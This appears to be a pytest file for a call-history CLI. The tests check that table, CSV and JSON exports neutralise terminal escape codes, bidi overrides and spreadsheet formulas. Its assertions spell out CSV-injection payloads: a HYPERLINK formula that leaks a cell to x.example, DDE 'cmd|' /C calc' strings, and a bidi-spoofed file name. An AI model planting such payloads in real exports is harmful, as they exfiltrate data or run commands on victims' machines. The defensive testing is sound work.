"""``ringdesk history`` over text a caller or a provider chose (issue 15, points 6 and 11b).

Real invocations (``python -m app history …`` in a subprocess, the test's RINGDESK_HOME inherited): the
table never hands the terminal an escape sequence, a control or a bidi override; the CSV never hands a
spreadsheet a formula, yet a phone number stays a number; JSON stays exact; every format gives talk time.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import unicodedata

from tests.cli.hostile_calls import DURATION, HOSTILE, TALK, WAIT, fill_home

BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def history(*args: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "app", "history", "--limit", "100", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def unsafe(text: str) -> list[str]:
    """Characters a terminal acts on (controls other than the line ends between rows) or reorders by."""
    return [repr(ch) for ch in text if ch in BIDI or (unicodedata.category(ch) == "Cc" and ch not in "\n")]


def test_the_table_hands_the_terminal_no_controls() -> None:
    fill_home()
    out = history("--format", "table")
    assert unsafe(out) == []
    lines = out.splitlines()
    assert len(lines) == 1 + len(HOSTILE)  # a name's line break never makes a row of its own
    assert "Evil Corp FAKE ROW" in out and "Invoice gnp.exe x" in out  # the words stay, the tricks go
    assert all(line.rstrip().endswith(str(TALK)) for line in lines[1:])  # the talk column is the talk


def test_the_csv_hands_a_spreadsheet_no_formula() -> None:
    fill_home()
    out = history("--format", "csv")
    assert "\x1b" not in out and not BIDI & set(out)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(HOSTILE)
    by_id = {row["call_id"]: row for row in rows}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "@", "\t", "\r")), row
            assert not value.startswith(("+", "-")) or value[1:].isdigit(), row  # only a signed number may
            assert unsafe(value) == [], row
        assert (row["duration_s"], row["wait_s"], row["talk_s"]) == (str(DURATION), str(WAIT), str(TALK))
    assert by_id["C-formula"]["contact_name"] == '\'=HYPERLINK("http://x.example/?leak="&A1,"click")'
    assert by_id["C-formula"]["agent"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_id["C-bidi"]["agent"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_id["C-tab"]["contact_name"] == " =1+1"  # the tab is gone: a leading space is text
    assert by_id["C-tab"]["agent"] == "'+48 (0) formula"
    # A phone number stays usable: no apostrophe before "+48…" (see app.core.cells.for_spreadsheet).
    assert [by_id[call_id]["phone"] for call_id, *_ in HOSTILE] == [phone for _, phone, *_ in HOSTILE]


def test_json_stays_exact_and_gives_talk_beside_duration_and_wait() -> None:
    fill_home()
    rows = json.loads(history("--format", "json"))
    exact = {call_id: (name, agent) for call_id, _, name, agent in HOSTILE}
    assert {row["call_id"]: (row["contact_name"], row["agent"]) for row in rows} == exact
    assert {(row["duration_s"], row["wait_s"], row["talk_s"]) for row in rows} == {(DURATION, WAIT, TALK)}


def test_every_option_of_history_has_a_help_text_without_markup() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "app", "history", "--help"], capture_output=True, text=True, timeout=60, check=True
    )
    text = done.stdout
    assert "``" not in text and ":class:" not in text and ":meth:" not in text
    from app.cli import build_parser

    parser = build_parser()
    history_parser = next(
        action.choices["history"] for action in parser._actions if hasattr(action, "choices") and action.choices
    )
    for action in history_parser._actions:
        if action.option_strings and action.dest != "help":
            assert action.help and "`" not in action.help, action.option_strings
